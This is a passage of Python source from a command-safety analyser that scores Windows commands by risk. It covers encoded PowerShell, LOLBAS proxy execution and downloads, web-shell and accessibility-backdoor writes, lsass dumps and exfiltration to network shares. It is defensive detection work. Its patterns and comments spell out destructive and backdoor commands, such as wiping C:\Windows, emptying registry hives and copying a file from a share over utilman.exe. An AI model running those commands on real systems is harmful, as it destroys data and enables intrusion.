                    C, "encoded-command", "runs an encoded PowerShell fragment (cut short)", val
                )
            elif hidden:
                # Encoded AND in a hidden window: the launcher pattern of droppers, whatever
                # the decoded text says.
                cmd.add(C, "encoded-command", "runs an encoded command in a hidden window", val)
            # -EncodedCommand is PowerShell's documented way to pass a program: what decodes
            # to readable, parsed code is judged as that code.
            return
    if any(w.text == "-" for w in cmd.args):
        # `… | powershell -` / `-Command -`: the script is read from standard input.
        _ps_stdin_script(cmd)
        return
    code_word = params.get("command") or params.get("c")
    if code_word is not None:
        idx = next(i for i, w in enumerate(cmd.args) if w is code_word)
        rest = cmd.args[idx:]
        text = " ".join(w.text for w in rest)
        where = code_word if len(rest) == 1 else Word(text, rest[0].start, rest[-1].end)
        if text.strip() == "-":
            _ps_stdin_script(cmd)
            return
        if len(rest) == 1 and code_word.dynamic and cmd.scope.family == "powershell":
            # (n17w) `pwsh -c "$s = …; $l.Remove(1)"`: the inner text's variables that the
            # outer block does not know keep their own names, so the inner text is judged
            # with its own bindings (not every unknown as one value)
            raw = cmd.scope.source[max(code_word.start, 0) : max(code_word.end, 0)].strip()
            if len(raw) > 1 and raw[0] == raw[-1] == '"' and "$(" not in raw:
                own = partial_code(raw, ps_variables(cmd.scope))
                text = own if own is not None and "\x00" not in own else text
        cmd.scope.include(cmd.scope.nested(text, "powershell", where, -1))
        return
    script = params.get("file") or params.get("f")
    if script is None and positional and positional[0].text == "-":
        _ps_stdin_script(cmd)  # `… | powershell -`: stdin is the script
        return
    if (
        script is None
        and positional
        and not (cmd.name.startswith("pwsh") or positional[0].text.lower().endswith(".ps1"))
    ):
        # `powershell Remove-Item …`: Windows PowerShell reads the words as -Command.
        idx = next(i for i, w in enumerate(cmd.args) if w is positional[0])
        tail = cmd.args[idx:]
        text = " ".join(w.text for w in tail)
        cmd.scope.include(
            cmd.scope.nested(text, "powershell", Word(text, tail[0].start, tail[-1].end), -1)
        )
        return
    if script is not None or positional:
        file = script if script is not None else positional[0]
        if _UNC.match(file.text.strip("'\"")) or re.match(r"(?i)https?://", file.text):
            # `powershell -File \\host\share\x.ps1`: a script from another machine, unread
            cmd.add(C, "remote-code", f"{cmd.name} runs a script from {file.text}", file)
            return
        cmd.add(M, "local-script", f"{cmd.name} runs a script")
        run_script_file(cmd, file)
        return
    if cmd.stdin.kind != "none":
        run_code_from_stdin(cmd, "powershell")
        return
    cmd.add(M, "shell", f"starts {cmd.name}")


def _start(cmd: Cmd) -> None:
    """cmd's `start ["title"] [/b /wait /min …] program args`: judge the program."""
    args = list(cmd.args)
    titled = False
    workdir: Word | None = None
    while args:
        if args[0].text.startswith("/"):
            low = args[0].text.lower()
            if low == "/d" and len(args) > 1:
                workdir = args[1]  # (w22) `start /D C:\ …`: the started program's folder
            elif low[:2] == "/d" and len(low) > 2:
                workdir = Word(args[0].text[2:], args[0].start + 2, args[0].end)  # `/DC:\`
            args = args[2:] if low in ("/d", "/node", "/affinity") else args[1:]
        elif not titled and cmd.scope.source[args[0].start : args[0].start + 1] == '"':
            # the window title: start takes the first quoted argument as the title, before
            # or after its switches (`start /b /wait "" cmd /c …`)
            args, titled = args[1:], True
        else:
            break
    if not args:
        cmd.add(M, "shell", "opens a new console window")
        return
    if re.match(r"^[a-z]+:", args[0].text, re.I) and "://" in args[0].text:
        cmd.add(M, "open-url", "opens a URL", args[0])
        return
    # What a pipe after it reads is what the started command prints (`start /b echo … | x`).
    if workdir is None or workdir.dynamic:
        cmd.info = cmd.judge(args, cmd.stdin)
        return
    # (w22, review 21 U5) `start /D C:\ cmd /c rd /s /q Windows`: as Start-Process
    # -WorkingDirectory, the started program's relative paths are judged in that folder
    saved_cwds, saved_cd = cmd.scope.cwds, cmd.scope.pending_cd
    cmd.scope.pending_cd = workdir.text.strip('"')
    try:
        apply_windows_cd(cmd.scope)
        cmd.info = cmd.judge(args, cmd.stdin)
    finally:
        cmd.scope.cwds, cmd.scope.pending_cd = saved_cwds, saved_cd


def _forfiles(cmd: Cmd) -> None:
    """`forfiles /p DIR /s /c "cmd /c del @file"` runs the command once per file."""
    command = next(
        (cmd.args[i + 1] for i, w in enumerate(cmd.args[:-1]) if w.text.lower() == "/c"), None
    )
    if command is None:
        return
    # @path is every file forfiles visits: the directory (/p, default the cwd) and mask (/m).
    folder = (_flag_value(cmd, "/p") or ".").strip('"')
    mask = (_flag_value(cmd, "/m") or "*").strip('"')
    every = folder.rstrip("\\/") + "\\" + mask
    text = re.sub(r"@(file|fname|path|relpath)", lambda _m: f'"{every}"', command.text, flags=re.I)
    if "/s" in _win_flags(cmd):
        text = re.sub(r"\b(del|erase)\b", r"\1 /s", text, flags=re.I)
    cmd.scope.include(cmd.scope.nested(text, "cmd", command, -1))


def _judge_payload(cmd: Cmd, line: str, what: str) -> None:
    """A command line a task, service or launcher will run: judged as cmd (what it resolves
    to counts, at least as much as the persistence itself)."""
    where = Word(line, cmd.start, cmd.end)
    found = cmd.scope.nested(line, "cmd", where, -1)
    for f in found:
        cmd.scope.add(f.level, f.rule, f"{what} runs: {f.reason}", f.start, f.end)


_WIN_SYSTEM = re.compile(
    r"\A(?:[a-z]:)?/(?:windows|program files(?: \(x86\))?|programdata/microsoft)(?:/|\Z)"
)
_WIN_BACKDOOR = re.compile(
    r"/system32/(?:sethc|utilman|osk|magnify|narrator|displayswitch|atbroker)\.exe\Z"
)


# Office loads these at start: templates (Normal.dotm), Word/Excel start-up folders.
_OFFICE_START = re.compile(
    r"/microsoft/(word/startup|excel/xlstart|addins)(/|\Z)|/templates/normal(email)?\.dotm\Z"
    r"|/office[^/]*/(startup|xlstart)(/|\Z)"
)


# Windows account and boot files: overwriting them breaks every logon or the boot.
_WIN_ACCOUNT_BOOT = re.compile(
    r"\A(?:[a-z]:)?/(?:windows/system32/config/(?:sam|system|security|software|default)"
    r"|windows/system32/(?:winload\.(?:exe|efi)|ntoskrnl\.exe|hal\.dll|ci\.dll)"
    # the processes and libraries every Windows session needs (replacing one: no boot)
    r"|windows/system32/(?:ntdll|kernel32|kernelbase|user32|advapi32|lsasrv)\.dll"
    r"|windows/system32/(?:lsass|csrss|smss|wininit|winlogon|services|svchost)\.exe"
    r"|bootmgr|boot/bcd|efi/microsoft/boot/(?:bcd|bootmgfw\.efi))\Z"
)


# (n20w) the registry hives and boot configuration stores of _WIN_ACCOUNT_BOOT by name, for
# patterns (`Clear-Content C:\Windows\System32\config\*` empties the hives); a pattern over
# System32 itself is left to the system-folder rules (`attrib -r C:\Windows\System32\*`)
_WIN_ACCOUNT_BOOT_NAMES = tuple(
    tuple(n.split("/"))
    for n in (
        [f"c:/windows/system32/config/{h}" for h in ("sam", "system", "security", "software")]
        + ["c:/boot/bcd", "c:/efi/microsoft/boot/bcd"]
    )
)


def _globs_account_boot(pattern: str) -> bool:
    """Whether a wildcard path (lower case, `/`) names a Windows account or boot file, one
    folder level for one (`*` does not cross a separator)."""
    if len(pattern) > 260:
        return False
    if pattern[:1] == "/":
        pattern = "c:" + pattern
    elif re.match(r"[a-z]:/", pattern):
        pattern = "c:" + pattern[2:]
    parts = pattern.rstrip("/").split("/")
    return any(
        len(parts) == len(name)
        and all(fnmatch.fnmatchcase(n, p) for n, p in zip(name, parts, strict=True))
        for name in _WIN_ACCOUNT_BOOT_NAMES
    )


# A server-side script under a web server's document root: whoever requests it runs it.
_WEB_SCRIPT = re.compile(
    r"/(?:inetpub/wwwroot|aspnet_client|exchange server/[^/]+/frontend/httpproxy"
    r"|owa/auth|ecp/auth)/(?:[^/]+/)*[^/]+\.(?:aspx|asp|ashx|asmx|php\d?|jspx?|cfm|shtml)$"
)


def web_root_writes(text: str, scope: Scope) -> None:
    """Any PowerShell/cmd command naming a web-server script path as a destination (an
    Exchange mailbox export, `Out-File`, `copy … \\inetpub\\wwwroot\\x.aspx`): a web shell."""
    if not re.search(r"(?i)inetpub|aspnet_client|owa[\\/]auth|ecp[\\/]auth", text):
        return
    for m in re.finditer(
        r"(?<![^\s'\"|;&<>])[^\s'\"|;&<>]{1,260}?\.(?:aspx|asp|ashx|asmx|php\d?|jspx?|cfm|shtml)\b",
        text,
    ):
        before = text[max(0, text.rfind("\n", 0, m.start())) : m.start()].lower()
        if re.search(
            r"(?:^|[;|&\n(])\s*(?:get-content|gc|type|cat|test-path|select-string"
            r"|findstr|get-item|gi|dir|ls|gci|get-childitem|more)\b",
            before,
        ):
            continue
        hit = windows_write_target(m.group(0))
        if hit is not None and hit[0] >= C:
            scope.add(hit[0], hit[1], f"writes {hit[2]}", m.start(), m.end())
            return


@functools.lru_cache(maxsize=4096)
def windows_write_target(path: str) -> tuple[RiskLevel, str, str] | None:
    """Writing into the Windows folder (a system file), or over an accessibility program
    that runs at the logon screen (a classic backdoor). (A pure function of `path`, asked
    several times of each write cmdlet's target: kept by path.)"""
    p = path.replace("\\", "/").strip('"').lower()
    if p.startswith("%"):
        p = re.sub(r"\A%(systemroot|windir)%", "c:/windows", p)
    if "//" in p:
        p = re.sub(r"/+", "/", p)
    if _WIN_ACCOUNT_BOOT.match(p) or (("*" in p or "?" in p) and _globs_account_boot(p)):
        return B, "system-file", f"the Windows account or boot file {path}"
    if _WIN_BACKDOOR.search(p):
        return (
            C,
            "persistence",
            f"{path}, which runs at the logon screen (an accessibility backdoor)",
        )
    if _OFFICE_START.search(p):
        return C, "persistence", f"{path}, which Office loads every time it starts"
    if _WEB_SCRIPT.search(p):
        return C, "persistence", f"{path}, a server-side script in a web root (a web shell)"
    if _WIN_SYSTEM.match(p):
        return C, "system-file", f"the Windows system file {path}"
    if "windowsapps" in p and (alias := _WINDOWS_APPS.search(p)) is not None:
        # (w21, review 20 U4) a program dropped among the app execution aliases: it runs
        # whenever `python`, `winget`, `git`… is typed (the folder is on every user's PATH);
        # (w22) the folder itself as the destination (`Move-Item x.exe …\WindowsApps\`)
        named = alias.group(1)
        return (
            C,
            "persistence",
            f"{path}, which runs instead of `{named}` (a folder on PATH)"
            if named
            else f"{path}, a folder on PATH (what is put there runs by its name)",
        )
    return None


# (w21) the user's app-execution-alias folder, on PATH: `%LOCALAPPDATA%\Microsoft\WindowsApps`
# (w22: bash's `$LOCALAPPDATA`, the folder itself)
_WINDOWS_APPS = re.compile(
    r"(?:appdata/local|%localappdata%|\$(?:env:)?localappdata|\$\{(?:env:)?localappdata\})"
    r"/microsoft/windowsapps(?:/([^/]+?)(?:\.(?:exe|com|bat|cmd|ps1|vbs))?)?/?$"
)


def _copy_move(cmd: Cmd) -> None:
    """cmd's copy, move, ren, xcopy: moving a system folder away destroys it; copying over a
    system file or into a startup folder is judged by the destination; copying home or
    secret files to a network share is exfiltration."""
    ops = _operands(cmd)
    name = cmd.name
    if not ops:
        return
    if name == "xcopy" and "/l" in _win_flags(cmd):
        return  # (h18) `xcopy SRC DST /L` lists what it would copy: nothing is written
    moving = name in ("move", "ren", "rename")
    sources = ops[:1] if name in ("ren", "rename") else (ops[:-1] if len(ops) > 1 else ops)
    dest = ops[-1] if len(ops) > 1 else None
    if name == "copy" and dest is not None and sources[0].text.lower() in ("nul", "nul:"):
        from aintern_ls.safety.files import emptied_whole

        # (f19) `for /r C:\Users %f in (*) do copy /y nul "%f"`: every file emptied
        if emptied_whole(cmd, [dest], "copy nul empties"):
            return
    if name in ("robocopy", "replace") and len(ops) > 1:
        # `robocopy SRC DST [FILE…]`, `replace SRC DSTDIR`: a destination folder, and the
        # names copied into it (robocopy's file list, replace's source file).
        dest = ops[1]
        sources = ops[2:] if name == "robocopy" and len(ops) > 2 else ops[:1]
    from aintern_ls.safety.network import sensitive_source
    from aintern_ls.safety.paths import is_secret

    if moving:
        from aintern_ls.safety.files import keeps_moved

        for w in sources:
            t = classify_path(w.text, cmd.scope.cwds, True)
            if (
                t.rule == "rm-cwd"
                and name == "move"
                and dest is not None
                and keeps_moved(dest.text)
            ):
                # `move * ..\archive`: everything moves, nothing is lost (session 7)
                cmd.add(D, "mv-all", f"move moves {t.what} into {dest.text}", w)
                return
            if t.level >= B:
                cmd.add(
                    B,
                    "mv-root" if t.rule != "rm-system-file" else t.rule,
                    f"{name} moves away {t.what}",
                    w,
                )
                return
    if dest is not None and (_UNC.match(dest.text) or _share_cwd(cmd, dest.text)):
        norm = [w.text.replace("\\", "/") for w in sources]
        home = [re.sub(r"(?i)\Ac:/users/[^/]+", "~", t) for t in norm]
        if any(
            is_secret(t) or sensitive_source(t) or re.match(r"(?i)\Ac:/users/?\Z", t) for t in home
        ) or any(_WIN_SECRET.search(w.text) for w in sources):
            cmd.add(
                C, "exfiltration", f"{name} copies home or secret files to a network share", dest
            )
            return
        local = next((w for w in sources if _local_source(cmd, w.text)), None)
        if local is not None and name not in ("ren", "rename"):
            from aintern_ls.safety.network import sends_local

            # `xcopy C:\data \\srv\share /s`: a local file or folder sent to another machine
            # (the session-14 Windows upload convention), whatever the file
            sends_local(cmd, local, f"{name} to {dest.text}")
            return
    if dest is not None and name not in ("ren", "rename"):
        hit = copy_destination(dest.text, [w.text for w in sources if not w.dynamic], cmd)
        if hit is not None:
            cmd.add(hit[0], hit[1], f"{name} overwrites {hit[2]}", dest)
            return
    cmd.add(M, "write", f"{name} copies or moves files")


# Upload tools we do not model as a whole but whose upload verbs are known (the
# session-14 Windows upload convention): Backblaze's b2, MEGA's megacmd and megatools,
# WinSCP's scripting. The dispatcher asks only for these names (one set look-up).
NAMED_UPLOADERS = frozenset(
    ("b2", "mega-put", "megaput", "megacopy", "winscp", "winscp.com", "winscp.exe")
)
# A WinSCP script line that sends local files: `put`, `synchronize remote|both`,
# `keepuptodate` (its local folder is watched and sent); `-preview` is a dry run.
_WINSCP_SEND = re.compile(
    r"(?i)\A\s*(?:m?put|synchronize\s+(?:remote|both)|keepuptodate)\b(?!.*\s-preview\b)"
)


def named_uploader(cmd: Cmd) -> None:
    """`b2 upload-file BUCKET FILE NAME`, `b2 file upload`, `b2 sync DIR b2://b`, `mega-put
    FILE /dst`, `megaput FILE`, `megacopy --local DIR`, `winscp.com /command "put F"`,
    `winscp /upload F`: a local file or folder sent to another machine (critical, whatever
    the file); a WinSCP script the analyser cannot read is opaque (critical)."""
    from aintern_ls.safety.network import sends_local

    name = cmd.name.lower().removesuffix(".exe").removesuffix(".com")
    args = cmd.args
    texts = [w.text for w in args]
    ops = [w for w in args if not w.text.startswith("-")]
    sent: Word | None = None
    if name == "b2":
        verbs = [w.text.lower().replace("_", "-") for w in ops[:2]]
        if verbs[:1] in (["upload-file"], ["upload-unbound-stream"]) or verbs == [
            "file",
            "upload",
        ]:
            rest = ops[len(verbs) if verbs == ["file", "upload"] else 1 :]
            sent = rest[-2] if len(rest) >= 3 else None
        elif verbs[:1] == ["sync"] and len(ops) >= 3:
            src, dst = ops[-2], ops[-1]
            if dst.text.startswith("b2://") and "://" not in src.text and not cmd.has("--dry-run"):
                sent = src
    elif name == "mega-put":
        sent = ops[0] if ops else None
    elif name == "megaput":
        values = {"--path", "-u", "--username", "-p", "--password", "--config"}
        sent = next(
            (w for i, w in enumerate(args) if w in ops and (i == 0 or texts[i - 1] not in values)),
            None,
        )
    elif name == "megacopy":
        if "--download" not in texts and not cmd.has("-n", "--dryrun"):
            sent = cmd.option_value("--local")
    else:  # winscp
        low = [t.lower() for t in texts]
        script = next(
            (
                args[i + 1] if t in ("/script", "-script") and i + 1 < len(args) else args[i]
                for i, t in enumerate(low)
                if t in ("/script", "-script") or t.startswith(("/script=", "-script="))
            ),
            None,
        )
        if script is not None:
            cmd.add(C, "config-exec", "WinSCP runs a script file the analyser cannot read", script)
            return
        if "/upload" in low or "-upload" in low:
            at = low.index("/upload") if "/upload" in low else low.index("-upload")
            sent = next((w for w in args[at + 1 :] if not w.text.startswith("/")), args[at])
        elif "/command" in low or "-command" in low:
            at = low.index("/command") if "/command" in low else low.index("-command")
            for w in args[at + 1 :]:
                if w.text.startswith("/") and not w.text.startswith("//"):
                    break
                if _WINSCP_SEND.match(w.text):
                    sent = w
                    break
    if sent is not None:
        sends_local(cmd, sent, f"{name} {sent.text}")


def copy_destination(dest: str, sources: list[str], cmd: Cmd) -> tuple[RiskLevel, str, str] | None:
    """What copying `sources` to `dest` overwrites, when it is more than a plain write: the
    destination itself as a file, or (a folder) each source's name inside it. The worst of
    the POSIX-style and the Windows readings wins (a hive or a boot file: blocked)."""
    from aintern_ls.safety.paths import write_target

    cands = [dest]
    base = dest.replace("\\", "/").rstrip("/")
    for src in sources[:8]:
        leaf = src.replace("\\", "/").rstrip("/").rsplit("/", 1)[-1].strip("\"'")
        if leaf and not re.search(r"[*?%$]", leaf):
            cands.append(base + "/" + leaf)
    best: tuple[RiskLevel, str, str] | None = None
    for cand in cands:
        t2 = write_target(cand.replace("\\", "/").strip("\"'"), cmd.scope.cwds)
        hit = (t2.level, t2.rule, t2.what) if t2 is not None else windows_write_target(cand)
        if hit is not None and (best is None or hit[0] > best[0]):
            best = hit
    return best


_BOOT_FILE = re.compile(
    r"^(?:[a-z]:)?[\\/](?:windows[\\/](?:system32|syswow64|boot)(?:[\\/]|$)|bootmgr\b|boot[\\/]"
    r"|efi[\\/])",
    re.I,
)


def _zeroed_system_file(cmd: Cmd) -> tuple[RiskLevel, str, str] | None:
    """`fsutil file setzerodata … C:\\Windows\\System32\\hal.dll`: zeroing a system or boot
    file destroys the installation like deleting it (blocked); elsewhere under Windows,
    critical."""
    ops = [t for t in cmd.texts() if not re.match(r"(?i)^(?:file|setzerodata|offset=|length=)", t)]
    for t in ops:
        low = t.strip("\"'").lower()
        if _BOOT_FILE.match(low):
            return (
                B,
                "wipe",
                f"fsutil zeroes a Windows system or boot file ({t}): it no longer boots",
            )
        if re.match(r"^(?:[a-z]:)?[\\/]windows(?:[\\/]|$)", low) and not re.match(
            r"^(?:[a-z]:)?[\\/]windows[\\/]temp[\\/]", low
        ):
            # (w22, blind19: a file in C:\Windows\Temp is an ordinary file: dangerous)
            return (C, "wipe", f"fsutil zeroes a file of the Windows installation ({t})")
    return None


def _fsutil(cmd: Cmd) -> None:
    text = " ".join(cmd.texts()).lower()
    if re.search(r"usn\s+deletejournal", text):
        # Anti-forensics, like clearing the event logs: the record of file changes is gone.
        cmd.add(C, "clear-logs", "fsutil deletes the file-system change journal (evidence)")
    elif re.search(r"behavior\s+set\s+symlinkevaluation\b.*\br2[lr]:1", text):
        # BlackCat/ALPHV: remote-to-local/remote symlinks turned on to reach shares' files.
        cmd.add(C, "disable-security", "fsutil lets symlinks reach remote files (ransomware prep)")
    elif re.search(r"setzerodata", text) and (target := _zeroed_system_file(cmd)):
        cmd.add(*target)
    elif re.search(r"setzerodata|file\s+setshortname|behavior\s+set\s+disabledeletenotify", text):
        cmd.add(D, "wipe", "fsutil overwrites file data with zeros")
    elif re.search(
        r"\b(?:query|info|fsinfo|list|diskfree|ntfsinfo|refsinfo|sectorinfo|statistics|drives"
        r"|drivetype|volumeinfo|findbysid|layout|queryallocranges|queryvaliddata)\w*\b",
        text,
    ) and not re.search(r"\b(?:set|create|delete|dismount|repair|mark|add|remove)\w*\b", text):
        return  # `fsutil fsinfo drives`, `fsutil volume diskfree C:`: read-only queries
    else:
        cmd.add(M, "system-config", "fsutil changes the file system")


_PROXY_EXEC = frozenset(
    names(
        """
        cmstp installutil regasm regsvcs odbcconf mavinject infdefaultinstall
        register-cimprovider xwizard msxsl ieexec presentationhost dnscmd tttracer pcwrun
        applaunch iediagcmd
        """
    )
)


def _proxy_exec(cmd: Cmd) -> None:
    """Signed Windows binaries that load and run a DLL, INF or script they are given (LOLBAS
    proxy execution): a classic way around application control."""
    cmd.add(C, "lolbin-exec", f"{cmd.name} runs code from a file through a signed Windows binary")
    if cmd.name in ("pcwrun", "tttracer"):
        # `pcwrun "cmd /c …"`, `tttracer -launch PROG ARGS`: they start the command line they
        # are given, which is judged too (blocked when it is, safety-m9)
        args = list(cmd.args)
        if cmd.name == "tttracer":
            low = [w.text.lower() for w in args]
            at = next((i for i, t in enumerate(low) if t in ("-launch", "/launch")), -1)
            if at < 0:
                while args and args[0].text.startswith(("-", "/")):
                    skip = args[0].text.lower() in ("-out", "/out", "-attach", "/attach")
                    args = args[2:] if skip else args[1:]
            else:
                args = args[at + 1 :]
        if args and not any(w.dynamic for w in args):
            line = " ".join(
                f'"{w.text}"' if " " in w.text and len(args) > 1 and i == 0 else w.text
                for i, w in enumerate(args)
            )
            where = Word(line, args[0].start, args[-1].end)
            cmd.scope.include(cmd.scope.nested(line, "cmd", where, -1))


def _msiexec(cmd: Cmd) -> None:
    texts = [t.lower() for t in cmd.texts()]
    if any(re.match(r"\A(https?|ftp)://", t) for t in texts):
        cmd.add(C, "remote-code", "msiexec installs a package straight from the network")
    elif any(t in ("/y", "-y", "/z", "-z") for t in texts):
        cmd.add(C, "lolbin-exec", "msiexec /y or /z runs a DLL through a signed Windows binary")
    elif any(t in ("/x", "-x", "/uninstall") for t in texts):
        cmd.add(M, "uninstall", "msiexec removes a package")
    else:
        cmd.add(M, "install", "msiexec installs a package")
        from aintern_ls.safety.wrappers import runs_unseen

        for w in cmd.args:
            if not w.text.startswith(("/", "-")) and w.text.lower().endswith((".msi", ".msp")):
                runs_unseen(cmd, w)  # a package this block downloaded: download-and-run


def _send_mail(cmd: Cmd) -> None:
    """Send-MailMessage: attachments are files read from disk and sent (exfiltration); a
    body computed from a command or a file is too; a literal message is network use."""
    params, _ = _ps_params(cmd)
    raw = cmd.scope.source[max(cmd.start, 0) : max(cmd.end, 0)]
    body = params.get("body")
    if any(k.startswith("att") for k in params) or (
        body is not None and (body.dynamic or re.search(r"(?i)get-content|\$\(", raw))
    ):
        cmd.add(C, "exfiltration", "Send-MailMessage mails files or computed data")
        return
    cmd.add(M, "network", "Send-MailMessage sends an e-mail")


def _procdump(cmd: Cmd) -> None:
    """Sysinternals ProcDump: a full dump of lsass (or any credential store) hands out the
    passwords and tickets in its memory; other dumps are debugging."""
    if CREDENTIAL_WINDOWS.search(" ".join(cmd.texts())):
        cmd.add(C, "credential-dump", f"{cmd.name} dumps lsass memory (passwords and tickets)")
    else:
        cmd.add(M, "runs-program", f"{cmd.name} writes a process memory dump")


def _posix_word(text: str) -> str:
    """One argument written back for a POSIX shell: quoted when it holds blanks or is empty."""
    if text and not re.search(r"\s", text):
        return text
    return "'" + text.replace("'", "'\\''") + "'"


def _app_v_code(cmd: Cmd, code: str, what: str) -> None:
    """(h19) The App-V helper hands the code after `n;` to PowerShell, which the caller
    judges as PowerShell (a download piped to IEX, a deletion, a variable run: their own
    levels). The helper itself is a program run (moderate) when there is code to read;
    with none it is an unexplained proxy (critical)."""
    if code.strip():
        cmd.add(M, "runs-program", f"{what} runs PowerShell code (judged below)")
    else:
        cmd.add(C, "lolbin-exec", f"{what} runs PowerShell code")


def _runs_cmdline(cmd: Cmd) -> None:
    """Launchers that run the command line they are given: `conhost cmd /c …`,
    `pcalua -a prog -c args`, `wsl rm …`, `SyncAppvPublishingServer "n; PS code"`."""
    n = cmd.name
    args = list(cmd.args)
    if n == "syncappvpublishingserver":
        text = " ".join(w.text for w in args)
        code = text.split(";", 1)[1] if ";" in text else text
        where = Word(code, cmd.start, cmd.end)
        _app_v_code(cmd, code, "SyncAppvPublishingServer")
        cmd.scope.include(cmd.scope.nested(code, "powershell", where, -1))
        return
    if n == "pcalua":
        prog = _flag_value(cmd, "-a")
        extra = _flag_value(cmd, "-c") or ""
        if prog and re.match(r"\A[\"']?(\\\\|//)[^\\/]+[\\/]", prog):
            cmd.add(C, "remote-code", "pcalua runs a program from another machine's share")
        if prog:
            cmd.add(M, "runs-program", "pcalua runs a program")
            line = f"{prog} {extra}".strip()
            cmd.scope.include(cmd.scope.nested(line, "cmd", Word(line, cmd.start, cmd.end), -1))
        return
    if n in ("wsl", "bash") and cmd.scope.family != "bash":
        if n == "wsl" and args and args[0].text.lower() in ("--unregister", "-unregister"):
            cmd.add(D, "wipe", "wsl --unregister deletes a Linux distribution and all its files")
            return
        if (
            n == "wsl"
            and args
            and args[0].text.lower() in ("--list", "-l", "--status", "--version")
        ):
            return  # `wsl --list --verbose`: read-only
        while args and args[0].text.startswith("-") and args[0].text not in ("-e", "--exec", "--"):
            skip = args[0].text in ("-d", "--distribution", "-u", "--user", "--cd")
            args = args[2:] if skip else args[1:]
        if args and args[0].text in ("-e", "--exec", "--"):
            args = args[1:]
        if args:
            # A word that held spaces (`-c "rm -rf /mnt/c/Windows"`) stays one word.
            line = " ".join(_posix_word(w.text) for w in args)
            where = Word(line, args[0].start, args[-1].end)
            cmd.scope.include(cmd.scope.nested(line, "bash", where, -1))
        else:
            cmd.add(M, "shell", "starts a Linux shell")
        return
    if n == "wt":
        # Windows Terminal: `wt [-w W] [new-tab|nt|split-pane|sp] [-p P] [-d DIR] CMD…`; `;`
        # separates its own subcommands, each may carry a command line.
        with_value = {"-w", "--window", "-p", "--profile", "-d", "--startingdirectory"}
        with_value |= {"--title", "--tabcolor", "--colorscheme", "--size", "--pos", "-s"}
        subs = {"new-tab", "nt", "split-pane", "sp", "focus-tab", "ft", "move-focus", "mf"}
        while args and (args[0].text.lower() in subs or args[0].text.startswith("-")):
            drop = 2 if args[0].text.lower() in with_value else 1
            args = args[drop:]
        if args:
            cmd.judge(args, cmd.stdin)
        else:
            cmd.add(M, "shell", "wt opens a terminal")
        return
    if n == "scriptrunner":
        for i, w in enumerate(args):
            if w.text.lower() in ("-appvscript", "/appvscript"):
                args = args[i + 1 :]
                break
        cmd.add(C, "lolbin-exec", "ScriptRunner runs a program through a signed Windows binary")
        if args and " " in args[0].text:
            # `-appvscript "cmd /c …"`: the value is a command line (safety-m9)
            line = " ".join(w.text for w in args)
            where = Word(line, args[0].start, args[-1].end)
            cmd.scope.include(cmd.scope.nested(line, "cmd", where, -1))
            return
    while args and args[0].text.startswith("-"):
        args = args[1:]
    if args:
        cmd.judge(args, cmd.stdin)
    else:
        cmd.add(M, "shell", f"{n} starts a console")


_REMOTE_ARG = re.compile(r"(?i)\A[\"']?(?:/\w+:)?(?:(?:https?|ftp)://|\\\\[^\\/\s]+[\\/])")
# Windows binaries that copy, expand or fetch files: given a URL or a network path they are a
# download tool (LOLBAS "download"); certreq -Post also sends a file out.
_FETCHERS = frozenset(
    names(
        """
        hh desktopimgdownldr esentutl expand extrac32 findstr replace certreq makecab print
        presentationhost ieexec msdt xwizard cmdl32 configsecuritypolicy mpcmdrun msoxmled
        """
    )
)


# (w22) blind19 labels a LOLBAS copy from a share as a download (moderate) unless it is run;
# an earlier held-out slice (blind5, not read here) labels such a copy critical, and its floor
# test fails with the change: off until the lead settles the label (branch w22-lolbas)
LOLBAS_COPY_IS_DOWNLOAD = False
# (w22) the LOLBAS copy tools: what they fetch is only written (a download)
_COPY_FETCHERS = frozenset(names("extrac32 expand replace findstr esentutl makecab print"))


def _copy_fetch_destination(cmd: Cmd) -> Word | None:
    """(w22) The file (or folder) a LOLBAS copy tool writes: esentutl's `/d` value, print's
    `/d:` value, else the last operand after the source (none for findstr, which prints)."""
    low = [w.text.lower() for w in cmd.args]
    if cmd.name == "esentutl" and "/d" in low[:-1]:
        return cmd.args[low.index("/d") + 1]
    if cmd.name == "extrac32" and "/l" in low[:-1]:
        return cmd.args[low.index("/l") + 1]  # (`/L DIR`: where the cabinet's files go)
    if cmd.name == "print":
        named = next((w for w in cmd.args if w.text.lower().startswith("/d:")), None)
        return Word(named.text[3:], named.start + 3, named.end) if named is not None else None
    ops = _operands(cmd)
    if cmd.name == "findstr" or len(ops) < 2:
        return None
    dest = ops[-1]
    if cmd.name == "replace":
        # `replace SRC DIR`: the file keeps its name in DIR
        base = ops[0].text.replace("/", "\\").rsplit("\\", 1)[-1]
        return Word(dest.text.rstrip("\\/") + "\\" + base, dest.start, dest.end, dest.dynamic)
    return dest


def _lolbin_fetch(cmd: Cmd) -> None:
    if cmd.name == "replace":
        ops = _operands(cmd)
        hit = copy_destination(ops[1].text, [ops[0].text], cmd) if len(ops) > 1 else None
        if hit is not None and hit[0] >= C:
            # `replace NEW C:\Windows\System32\config`: a hive of that name is replaced.
            cmd.add(hit[0], hit[1], f"replace copies over {hit[2]}", ops[1])
            return
    if cmd.name == "cmdl32" and any(w.text.lower() in ("/vpn", "/lan") for w in cmd.args):
        # LOLBAS: `cmdl32 /vpn /lan FILE` downloads the URL named in a connection profile.
        cmd.add(C, "lolbin-download", "cmdl32 downloads a file named in a VPN profile")
        return
    if cmd.name == "certreq" and any(w.text.lower() in ("-post", "/post") for w in cmd.args):
        cmd.add(C, "exfiltration", "certreq -Post sends a file to a web server")
        return
    if cmd.name == "mpcmdrun" and any(
        w.text.lower().lstrip("-/") in ("downloadfile", "url") for w in cmd.args
    ):
        cmd.add(C, "lolbin-download", "MpCmdRun downloads a file (a Defender binary abused)")
        return
    if cmd.name == "mpcmdrun" and any(
        w.text.lower().lstrip("-/") in ("removedefinitions", "disableservice") for w in cmd.args
    ):
        cmd.add(C, "disable-security", "MpCmdRun removes Defender's signatures (blinds it)")
        return
    if any(_REMOTE_ARG.match(w.text) for w in cmd.args):
        if cmd.name in _COPY_FETCHERS and LOLBAS_COPY_IS_DOWNLOAD:
            # (w22, blind19) `extrac32 /Y /C \\host\s\t.exe C:\Users\Public\t.exe`,
            # `expand`, `replace`, `esentutl /y … /d`, `findstr … > file`: a copy from a share
            # or a URL is a download (moderate, as `curl -o`), not execution; running the copy
            # later is (the file is remembered as unseen: `unseen-exec`, critical)
            from aintern_ls.safety.wrappers import remember_unseen

            dest = _copy_fetch_destination(cmd)
            sources = [w.text for w in cmd.args if _REMOTE_ARG.match(w.text)]
            hit = copy_destination(dest.text, sources, cmd) if dest is not None else None
            if hit is not None and hit[0] >= C:
                # `extrac32 /Y /C \\h\s\u.exe C:\Windows\System32\utilman.exe`: the copy
